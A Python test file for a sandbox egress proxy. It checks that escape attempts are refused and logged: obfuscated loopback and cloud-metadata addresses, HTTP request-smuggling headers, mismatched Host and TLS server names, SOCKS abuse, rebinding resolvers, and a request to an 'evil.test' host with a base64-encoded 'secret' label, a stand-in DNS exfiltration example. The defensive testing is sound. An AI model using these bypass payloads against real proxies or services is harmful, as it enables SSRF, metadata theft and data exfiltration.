"""Attempts to get out through the proxy by what no rule allows: each is refused, recorded, and reaches no server."""

from __future__ import annotations

import asyncio
import random
import socket
from collections.abc import Sequence
from ipaddress import IPv4Address, ip_address
from pathlib import Path

import pytest

from jupyter_exec_ext.isolation.network.access_decision import Target
from jupyter_exec_ext.isolation.network.addresses import Address
from jupyter_exec_ext.isolation.network.control_messages import ProxySettings
from jupyter_exec_ext.isolation.network.upstream import Refused, Upstream
from tests.support.full import scaled

from .servers import World, access_of, curl, exchange, listen, make_world
from .test_client_hello import hello_of, split_records, with_extension

ODD_FORMS = [
    *("127.0.0.1", "127.1", "0x7f.1", "0x7f000001", "2130706433", "017700000001", "127.0.0.01", "0177.0.0.1"),
    *("[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
    *("0.0.0.0", "[::]", "localhost", "localhost.", "a.test.", "A.TEST.", "169.254.169.254", "[fd00:ec2::254]"),
    *(
        "10.0.0.1",
        "192.168.0.1",
        "224.0.0.1",
        "255.255.255.255",
        "a.test@b.test",
        "b.test#a.test",
        "b.test",
        "[::1%lo]",
    ),
    *("a.test.b.test", "xa.test", "a.test%00.b.test", "a.test\\b.test", "*.test", "a..test", "%61.test", "[::1%lo]"),
]


async def test_request_without_tls_to_port_443_is_refused(world: World) -> None:
    proxy = await world.open(access_of("a.test"))
    answer = await exchange(proxy, b"GET http://a.test:443/ HTTP/1.1\r\nHost: a.test:443\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403 a request to port 443 of a.test must be made over TLS")
    assert (await world.record()).verdict == "refused"


@pytest.mark.parametrize("form", ["connect", "absolute", "socks"])
async def test_other_names_and_forms_of_addresses_are_refused(world: World, form: str) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}"))
    for number, host in enumerate(ODD_FORMS, start=1):
        authority = f"{host}:{world.http}"
        if form == "socks":
            name = host.encode()
            sent = b"\x05\x01\0" + b"\x05\x01\0\x03" + bytes([len(name)]) + name + world.http.to_bytes(2, "big")
            assert await exchange(proxy, sent) == b"\x05\0" + b"\x05\x02\0\x01\0\0\0\0\0\0", host
        elif form == "connect":
            answer = await exchange(proxy, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
            assert answer.split()[1] in (b"403", b"400"), host
        else:
            answer = await exchange(proxy, f"GET http://{authority}/ HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
            assert answer.split()[1] in (b"403", b"400"), host
        record = await world.record(number)
        assert record.verdict == "refused" and record.reason, host
    assert not world.seen.requests


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "::ffff:127.0.0.1", "169.254.169.254"])
async def test_socks_by_address_is_refused(world: World, address: str) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}"))
    packed = ip_address(address).packed
    kind = b"\x01" if len(packed) == 4 else b"\x04"
    sent = b"\x05\x01\0" + b"\x05\x01\0" + kind + packed + world.http.to_bytes(2, "big")
    assert (await exchange(proxy, sent))[2:4] == b"\x05\x02"


@pytest.mark.parametrize("command", [2, 3])
async def test_socks_does_not_listen_and_has_no_udp(world: World, command: int) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}"))
    sent = b"\x05\x01\0" + bytes([5, command, 0, 3, 6]) + b"a.test" + world.http.to_bytes(2, "big")
    assert (await exchange(proxy, sent))[2:4] == b"\x05\x02"
    assert "SOCKS is for connections only" in (await world.record()).reason


async def test_other_port_of_an_allowed_host_is_refused(world: World) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}"))
    for authority in (f"a.test:{world.https}", "a.test:22", "a.test:0", "a.test:65536", "a.test:", "a.test"):
        assert (await exchange(proxy, f"CONNECT {authority} HTTP/1.1\r\nHost: x\r\n\r\n".encode())).split()[1] == b"403"


async def test_redirect_to_another_host_is_decided_anew(world: World) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}"))
    to = f"http://127.0.0.1:{world.http}/metadata"
    _, text = await curl(proxy, "-L", f"http://a.test:{world.http}/redirect?to={to}")
    assert "does not allow" in text
    assert len(world.seen.requests) == 1


@pytest.mark.parametrize(
    "host", ["b.test", "b.test:{port}", "a.test", "a.test:80", "127.0.0.1:{port}", "", "a.test:{port},b.test"]
)
async def test_header_host_must_be_the_target(world: World, host: str) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}", f"b.test:{world.http}"))
    named = host.format(port=world.http)
    head = f"GET http://a.test:{world.http}/ HTTP/1.1\r\nHost: {named}\r\n\r\n"
    assert (await exchange(proxy, head.encode())).split()[1] == b"403"
    assert not world.seen.requests


async def test_header_host_must_be_the_target_in_terminated_tls(world: World) -> None:
    proxy = await world.open(access_of(f"https://a.test:{world.https}/*", f"https://b.test:{world.https}/*"))
    trust = ["--cacert", await world.trusted()]
    _, text = await curl(proxy, *trust, "-H", f"Host: b.test:{world.https}", f"https://a.test:{world.https}/")
    assert "the header Host names b.test" in text
    assert not world.seen.requests


@pytest.mark.parametrize("rule", ["a.test:{}", "https://a.test:{}/*"])
@pytest.mark.parametrize("name", ["b.test", None, "a.test.b.test"])
async def test_server_name_must_be_the_host(world: World, rule: str, name: str | None) -> None:
    proxy = await world.open(access_of(rule.format(world.https)))
    head = f"CONNECT a.test:{world.https} HTTP/1.1\r\nHost: a.test:{world.https}\r\n\r\n".encode()
    answer = await exchange(proxy, head, hello_of(name))
    assert b"\x15\x03" in answer and b"\x16\x03" not in answer  # an alert, and nothing of the server's
    record = await world.record()
    assert record.verdict == "refused" and record.bytes_sent == 0


@pytest.mark.parametrize("pieces", [1, 3, 50])
async def test_server_name_is_checked_in_fragments_and_with_ech(world: World, pieces: int) -> None:
    proxy = await world.open(access_of(f"a.test:{world.https}"))
    head = f"CONNECT a.test:{world.https} HTTP/1.1\r\nHost: a.test:{world.https}\r\n\r\n".encode()
    wrong = split_records(hello_of("b.test"), 7)
    size = len(wrong) // pieces + 1
    sent = [wrong[start : start + size] for start in range(0, len(wrong), size)]
    assert b"\x15\x03\x03\0\x02\x02\x31" in await exchange(proxy, head, *sent)
    ech = with_extension(hello_of("a.test"), 0xFE0D, b"\0" * 30)
    assert b"\x15\x03\x03\0\x02\x02\x31" in await exchange(proxy, head, ech)
    assert "encrypted server name" in (await world.record(2)).reason
    assert [record.bytes_sent for record in world.records] == [0, 0]


async def test_port_443_takes_nothing_but_tls_and_port_80_nothing_but_http(tmp_path: Path) -> None:
    with listen("127.0.0.9", 443) as tls, listen("127.0.0.9", 80) as web:
        async with make_world(tmp_path, hosts={"a.test": ["127.0.0.9"]}) as world:
            proxy = await world.open(access_of("a.test"))
            for port, data in ((443, b"SSH-2.0-x\r\n"), (443, b"GET / HTTP/1.1\r\n\r\n"), (80, b"SSH-2.0-x\r\n\r\n")):
                head = f"CONNECT a.test:{port} HTTP/1.1\r\nHost: a.test\r\n\r\n".encode()
                await exchange(proxy, head, data)
            head = b"CONNECT a.test:80 HTTP/1.1\r\nHost: a.test\r\n\r\n"
            answer = await exchange(proxy, head, b"GET / HTTP/1.1\r\nHost: b.test\r\n\r\n")
            assert b"403 the header Host names b.test:80" in answer
            await world.record(4)
            assert {record.verdict for record in world.records} == {"refused"}
            for listener in (tls, web):
                listener.setblocking(False)
                try:
                    sock, _ = listener.accept()
                except BlockingIOError:
                    continue
                with sock:
                    assert sock.recv(100) == b""  # connected for the tunnel, and then nothing sent


async def test_proxy_of_another_session_is_no_second_hop(world: World) -> None:
    first = await world.open(access_of(f"a.test:{world.http}"), "s1")
    second = await world.open(access_of(f"b.test:{world.http}"), "s2")
    port = second.rpartition(":")[2]
    for host in ("127.0.0.1", "localhost", "a.test"):
        answer = await exchange(first, f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        assert answer.split()[1] == b"403"
    assert {record.session_id for record in world.records} == {"s1"}


@pytest.mark.parametrize(
    "lines",
    [
        b"GET /x HTTP/1.1\r\nHost: a.test:{port}\r\n",
        b"GET https://a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\n",
        b"GET ftp://a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\n",
        b"GET http://u:p@a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\n",
        b"GET http://a.test:{port}\\@b.test/ HTTP/1.1\r\nHost: a.test:{port}\r\n",
        b"GET http://a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\nHost: b.test\r\n",
        b"GET http://a.test:{port}/ HTTP/1.1\r\nHost : a.test:{port}\r\n",
        b"POST http://a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\nContent-Length: 3\r\nContent-Length: 4\r\n",
        b"PUT http://a.test:{port}/ HTTP/1.1\nHost: a.test:{port}\nContent-Length: 3\nTransfer-Encoding: chunked\n",
        b"POST http://a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\nTransfer-Encoding: gzip, chunked\r\n",
        b"GET http://a.test:{port}/ HTTP/1.1\r\nHost: a.test:{port}\r\n X: folded\r\nA: " + b"x" * 100_000 + b"\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: a.test:{port}\r\n",
    ],
)
async def test_ambiguous_request_is_refused(world: World, lines: bytes) -> None:
    proxy = await world.open(access_of(f"a.test:{world.http}"))
    answer = await exchange(proxy, lines.replace(b"{port}", str(world.http).encode()) + b"\r\nabc")
    assert answer == b"" or answer.split()[1] in (b"400", b"403", b"501")
    assert (await world.record()).verdict == "refused"
    assert not world.seen.requests


async def test_name_that_resolves_to_private_addresses_is_refused() -> None:
    asked: list[str] = []
    answers: Sequence[Address] = [ip_address("10.0.0.5"), ip_address("::ffff:169.254.169.254"), ip_address("fd00::1")]

    async def look_up(name: str) -> Sequence[Address]:
        asked.append(name)
        return answers

    upstream = Upstream(ProxySettings(), look_up)
    with pytest.raises(Refused, match=r"10\.0\.0\.5, not public; ask for the rule"):
        await upstream.connect(access_of("a.test"), Target("a.test", 443))
    assert asked == ["a.test"]


async def test_only_checked_addresses_of_one_lookup_are_connected_to(monkeypatch: pytest.MonkeyPatch) -> None:
    """A resolver that gives a public address first and a private one afterwards gets one question only."""
    answers = [[ip_address("10.0.0.5"), ip_address("93.184.215.14")], [ip_address("127.0.0.1")]]
    tried: list[str] = []

    async def look_up(name: str) -> Sequence[Address]:
        return answers.pop(0)

    async def connect(sock: socket.socket, address: tuple[str, int]) -> None:
        tried.append(address[0])

    monkeypatch.setattr(asyncio.get_running_loop(), "sock_connect", connect)
    upstream = Upstream(ProxySettings(), look_up)
    (await upstream.connect(access_of("a.test"), Target("a.test", 443))).close()
    assert tried == ["93.184.215.14"]
    assert len(answers) == 1


async def test_names_that_no_rule_allows_are_not_looked_up(world: World) -> None:
    asked: list[str] = []

    async def look_up(name: str) -> Sequence[Address]:
        asked.append(name)
        return [IPv4Address("10.0.0.1")]

    proxy = await world.open(access_of("a.test"))
    _, text = await curl(proxy, "http://c2VjcmV0.evil.test/")
    assert "does not allow" in text
    assert asked == []


async def test_malformed_bytes_leave_the_proxy_working(world: World) -> None:
    """Random bytes, and changed requests, in three protocols."""
    access = access_of(f"b.test:{world.http}", f"https://a.test:{world.https}/*")
    count = scaled(10_000, per_commit=90)
    # Many sessions: refusals of one are slowed down.
    proxies = [await world.open(access, f"s{number}") for number in range(count // 45)]
    pid, chance = world.proxy.pid, random.Random(36)
    head = f"CONNECT a.test:{world.https} HTTP/1.1\r\nHost: a.test:{world.https}\r\n\r\n".encode()
    seeds = [
        f"GET http://c.test:{world.http}/x?y HTTP/1.1\r\nHost: c.test:{world.http}\r\nA: b\r\n\r\nbody".encode(),
        b"\x05\x01\0\x05\x01\0\x03\x06c.test\0\x50" + hello_of("c.test"),
        head + hello_of("b.test"),
    ]

    async def attack(number: int) -> None:
        data = bytearray(seeds[number % 3]) if number % 4 else bytearray(chance.randbytes(chance.randrange(1, 400)))
        for _ in range(chance.randrange(1, 8)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", int(proxies[number % len(proxies)].rpartition(":")[2])
        )
        writer.write(data[: chance.randrange(1, len(data) + 1)])
        writer.write_eof()
        try:
            await asyncio.wait_for(reader.read(), 60)
        except ConnectionError:
            pass  # refused with bytes unread
        finally:
            writer.close()

    for start in range(0, count, 30):
        await asyncio.gather(*(attack(number) for number in range(start, min(start + 30, count))))
    assert not world.seen.requests
    assert not [record for record in world.records if "proxy failed" in record.reason]
    assert world.proxy.pid == pid
    assert await curl(proxies[0], f"http://b.test:{world.http}/x") == (0, "GET /x 0\n")
